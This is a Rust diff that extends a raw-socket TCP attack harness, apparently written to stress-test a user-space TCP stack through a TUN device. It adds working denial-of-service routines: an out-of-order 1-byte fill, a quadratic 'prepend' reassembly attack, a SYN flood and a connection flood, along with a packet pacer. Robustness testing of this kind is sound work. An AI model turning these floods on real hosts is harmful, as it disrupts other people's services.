@@ -22,6 +22,8 @@ const ETH_P_IP_BE: u16 = (libc::ETH_P_IP as u16).to_be();
 /// One connection of the peer, after its handshake.
 #[derive(Debug, Clone, Copy)]
 pub struct Conn {
+    /// The peer's port.
+    pub port: u16,
     /// The peer's ISN.
     pub isn: u32,
     /// The victim's ISN.
@@ -173,13 +175,47 @@ impl RawPeer {
         }
     }
 
-    /// A TCP segment from the victim to the peer in `pkt`, if it is one.
+    /// The next segment the victim sent to any port of the peer's address, without
+    /// waiting: its port and header.
+    pub fn try_recv_any(&mut self) -> io::Result<Option<(u16, TcpRepr)>> {
+        let mut buf = [0u8; 2048];
+        loop {
+            // SAFETY: recv(2) into a buffer of its length, not blocking.
+            let r = unsafe {
+                libc::recv(
+                    self.rx.as_raw_fd(),
+                    buf.as_mut_ptr() as *mut libc::c_void,
+                    buf.len(),
+                    libc::MSG_DONTWAIT | libc::MSG_TRUNC,
+                )
+            };
+            if r < 0 {
+                let e = io::Error::last_os_error();
+                return match e.kind() {
+                    io::ErrorKind::WouldBlock => Ok(None),
+                    _ => Err(e),
+                };
+            }
+            let len = (r as usize).min(buf.len());
+            if let Some(seg) = self.parse_any(&buf[..len]) {
+                return Ok(Some(seg));
+            }
+        }
+    }
+
+    /// A TCP segment from the victim to the peer's own port in `pkt`, if it is one.
     fn parse(&self, pkt: &[u8]) -> Option<TcpRepr> {
+        self.parse_any(pkt)
+            .and_then(|(port, th)| (port == self.src.port()).then_some(th))
+    }
+
+    /// A TCP segment from the victim to any port of the peer's address in `pkt`.
+    fn parse_any(&self, pkt: &[u8]) -> Option<(u16, TcpRepr)> {
         let ip = IpRepr::parse(pkt, false).ok()?;
         let to_us = ip.dst == std::net::IpAddr::V4(*self.src.ip());
         let from_victim = ip.src == std::net::IpAddr::V4(*self.dst.ip());
         let (th, _) = TcpRepr::parse(pkt.get(ip.header_len..)?).ok()?;
-        (to_us && from_victim && th.dst_port == self.src.port()).then_some(th)
+        (to_us && from_victim).then_some((th.dst_port, th))
     }
 
     /// TSval: milliseconds since the peer opened.
@@ -200,8 +236,8 @@ impl RawPeer {
             },
             ..TcpRepr::default()
         };
-        let (src, dst) = (SocketAddr::V4(self.src), SocketAddr::V4(self.dst));
-        tcp_packet(src, dst, &th, payload, 1, Csum::Full)
+        let src = SocketAddr::new((*self.src.ip()).into(), c.port);
+        tcp_packet(src, SocketAddr::V4(self.dst), &th, payload, 1, Csum::Full)
     }
 
     /// A SYN (MSS 1460, window scale 7, SACK, timestamps) from the peer's address
@@ -230,6 +266,7 @@ impl RawPeer {
                 if th.flags.contains(TcpFlags::SYN | TcpFlags::ACK) && th.ack == isn.wrapping_add(1)
                 {
                     let c = Conn {
+                        port: self.src.port(),
                         isn,
                         irs: th.seq,
                         wscale: th.options.wscale.unwrap_or(0).min(14),
@@ -263,6 +300,31 @@ impl RawPeer {
         ))
     }
 
+    /// Opens the peer, completes a handshake with `isn` and measures the window:
+    /// the start of the attacks on one connection.
+    pub fn connect(
+        iface: &str,
+        src: SocketAddrV4,
+        dst: SocketAddrV4,
+        isn: u32,
+    ) -> io::Result<(RawPeer, Conn, u32)> {
+        let mut p = RawPeer::open(iface, src, dst)?;
+        let mut c = p.handshake(isn, Duration::from_secs(10))?;
+        let window = p.window(&mut c, Duration::from_secs(5))?;
+        Ok((p, c, window))
+    }
+
+    /// What the attack did: the segments sent since the peer opened, over `window`,
+    /// in the time since `start`.
+    fn report(&self, window: u32, start: Instant) -> AttackReport {
+        AttackReport {
+            window,
+            segments: self.sent,
+            handshakes: 0,
+            elapsed: start.elapsed(),
+        }
+    }
+
     /// Drains what the victim sent (its duplicate ACKs), without waiting.
     pub fn drain(&mut self) -> io::Result<u64> {
         let mut n = 0;
@@ -273,30 +335,66 @@ impl RawPeer {
     }
 }
 
-/// What an out-of-order fill did.
+/// Paces an attacker's segments at a fixed rate, so that every one reaches the
+/// victim's TCP instead of overflowing the queue in front of it (the TUN device's, when
+/// lowtide reads slower than a raw socket writes). Sleeps only when a millisecond
+/// ahead: a sleep per segment would cost more than the segment.
+#[derive(Debug, Clone, Copy)]
+pub struct Pacer {
+    start: Instant,
+    rate: Option<f64>,
+    n: u64,
+}
+
+impl Pacer {
+    /// `rate` segments per second; `None` sends as fast as the socket takes them.
+    pub fn new(rate: Option<f64>) -> Pacer {
+        Pacer {
+            start: Instant::now(),
+            rate: rate.filter(|r| *r > 0.0),
+            n: 0,
+        }
+    }
+
+    /// Waits until the next segment is due.
+    pub fn wait(&mut self) {
+        if let Some(rate) = self.rate {
+            let due = self.start + Duration::from_secs_f64(self.n as f64 / rate);
+            let ahead = due.saturating_duration_since(Instant::now());
+            if ahead > Duration::from_millis(1) {
+                std::thread::sleep(ahead);
+            }
+        }
+        self.n += 1;
+    }
+}
+
+/// What an attack did.
 #[derive(Debug, Clone, Copy, Default)]
-pub struct FillReport {
-    /// The victim's window when the fill started (bytes).
+pub struct AttackReport {
+    /// The victim's window when the attack started (bytes; 0 for the floods).
     pub window: u32,
-    /// 1-byte segments sent.
+    /// Segments sent.
     pub segments: u64,
-    /// Wall time the fill took.
+    /// Handshakes completed (the connection flood).
+    pub handshakes: u64,
+    /// Wall time the attack took.
     pub elapsed: Duration,
 }
 
 /// The 1-byte out-of-order fill: a handshake from `src` to `dst`, then 1-byte
 /// segments with 1-byte gaps over the victim's window (its upper half first, then
-/// the lower half), never the byte at `rcv_nxt`, `rounds` times over.
+/// the lower half), never the byte at `rcv_nxt`, `rounds` times over, at `rate`
+/// segments per second (as fast as possible if `None`).
 pub fn ofo_fill(
     iface: &str,
     src: SocketAddrV4,
     dst: SocketAddrV4,
     rounds: u32,
-) -> io::Result<FillReport> {
-    let mut p = RawPeer::open(iface, src, dst)?;
-    let mut c = p.handshake(0x1234_5678, Duration::from_secs(10))?;
-    let window = p.window(&mut c, Duration::from_secs(5))?;
-    let start = Instant::now();
+    rate: Option<f64>,
+) -> io::Result<AttackReport> {
+    let (mut p, c, window) = RawPeer::connect(iface, src, dst, 0x1234_5678)?;
+    let (start, mut pace) = (Instant::now(), Pacer::new(rate));
     let n = window / 2;
     let half = n / 2;
     for _ in 0..rounds {
@@ -307,15 +405,141 @@ pub fn ofo_fill(
                 i - (n - half)
             };
             let seg = p.segment(&c, TcpFlags::ACK, 2 * k + 1, &[0]);
+            pace.wait();
             p.send(&seg)?;
             if i % 4096 == 0 {
                 p.drain()?;
             }
         }
     }
-    Ok(FillReport {
-        window,
-        segments: p.sent,
-        elapsed: start.elapsed(),
+    Ok(p.report(window, start))
+}
+
+/// Full segments of the prepend attack's run.
+const RUN_SEG: usize = 1_000;
+/// Bytes of each prepended segment.
+const PREPEND_LEN: usize = 200;
+
+/// The prepend attack (issue 27 item 2): a handshake, an out-of-order run of full
+/// segments over the upper half of the victim's window, then `count` segments of
+/// 200 bytes, each starting one byte lower than the last and overlapping the run
+/// (each one extends the run's front by a byte: a queue that rebuilds the run per
+/// segment is quadratic), at `rate` segments per second.
+pub fn prepend(
+    iface: &str,
+    src: SocketAddrV4,
+    dst: SocketAddrV4,
+    count: u32,
+    rate: Option<f64>,
+) -> io::Result<AttackReport> {
+    let (mut p, c, window) = RawPeer::connect(iface, src, dst, 0x2345_6789)?;
+    let (start, mut pace) = (Instant::now(), Pacer::new(rate));
+    let front = window / 2;
+    let run = [0x5a; RUN_SEG];
+    for off in (front..window.saturating_sub(RUN_SEG as u32)).step_by(RUN_SEG) {
+        pace.wait();
+        p.send(&p.segment(&c, TcpFlags::ACK, off, &run))?;
+    }
+    let payload = [0xa5; PREPEND_LEN];
+    for i in 1..=count.min(front.saturating_sub(2)) {
+        pace.wait();
+        p.send(&p.segment(&c, TcpFlags::ACK, front - i, &payload))?;
+        if i % 4096 == 0 {
+            p.drain()?;
+        }
+    }
+    Ok(p.report(window, start))
+}
+
+/// A SYN flood: `count` SYNs to `dst` from `src`'s address and ports cycling above
+/// `src`'s port, each with its own ISN, at `rate` per second. The victim's
+/// SYN-ACKs go to an address nobody owns and are never answered: half-open
+/// handshakes that fill its SYN queue (and then draw SYN cookies).
+pub fn syn_flood(
+    iface: &str,
+    src: SocketAddrV4,
+    dst: SocketAddrV4,
+    count: u32,
+    rate: Option<f64>,
+) -> io::Result<AttackReport> {
+    let mut p = RawPeer::open(iface, src, dst)?;
+    let (start, mut pace) = (Instant::now(), Pacer::new(rate));
+    let ports = 65535 - u32::from(src.port());
+    for i in 0..count {
+        let port = src.port() + (i % ports) as u16;
+        let syn = p.syn(port, 0x9e37_79b9u32.wrapping_mul(i + 1));
+        pace.wait();
+        p.send(&syn)?;
+        if i % 1024 == 0 {
+            while p.try_recv_any()?.is_some() {}
+        }
+    }
+    Ok(p.report(0, start))
+}
+
+/// A connection flood: `count` handshakes to `dst` from `src`'s address and the
+/// ports from `src`'s port up, each completed (the SYN-ACK answered, with SYN
+/// cookies too) and then left silent, at `rate` SYNs per second; the SYNs left
+/// unanswered are sent once more after a second.
+pub fn conn_flood(
+    iface: &str,
+    src: SocketAddrV4,
+    dst: SocketAddrV4,
+    count: u16,
+    rate: Option<f64>,
+) -> io::Result<AttackReport> {
+    let mut p = RawPeer::open(iface, src, dst)?;
+    let (start, mut pace) = (Instant::now(), Pacer::new(rate));
+    let count = count.min(u16::MAX - src.port());
+    let isn = |port: u16| 0x6a09_e667u32.wrapping_mul(u32::from(port));
+    let mut done = vec![false; usize::from(count)];
+    for round in 0..2 {
+        for i in 0..count {
+            if done[usize::from(i)] {
+                continue;
+            }
+            let port = src.port() + i;
+            pace.wait();
+            p.send(&p.syn(port, isn(port)))?;
+            answer_syn_acks(&mut p, src.port(), &mut done, isn)?;
+        }
+        let end = Instant::now() + Duration::from_secs(1 + round);
+        while Instant::now() < end {
+            answer_syn_acks(&mut p, src.port(), &mut done, isn)?;
+            std::thread::sleep(Duration::from_millis(1));
+        }
+    }
+    Ok(AttackReport {
+        handshakes: done.iter().filter(|d| **d).count() as u64,
+        ..p.report(0, start)
     })
+}
+
+/// Answers every SYN-ACK waiting for the connection flood's ports with the
+/// handshake's final ACK.
+fn answer_syn_acks(
+    p: &mut RawPeer,
+    base: u16,
+    done: &mut [bool],
+    isn: impl Fn(u16) -> u32,
+) -> io::Result<()> {
+    while let Some((port, th)) = p.try_recv_any()? {
+        let Some(i) = port.checked_sub(base).map(usize::from) else {
+            continue;
+        };
+        let synack = th.flags.contains(TcpFlags::SYN | TcpFlags::ACK);
+        if i >= done.len() || !synack || th.ack != isn(port).wrapping_add(1) {
+            continue;
+        }
+        let c = Conn {
+            port,
+            isn: isn(port),
+            irs: th.seq,
+            wscale: th.options.wscale.unwrap_or(0).min(14),
+            ts_recent: th.options.timestamp.map_or(0, |t| t.0),
+        };
+        p.send(&p.segment(&c, TcpFlags::ACK, 0, &[]))?;
+        done[i] = true;
+    }
+    Ok(())
 }
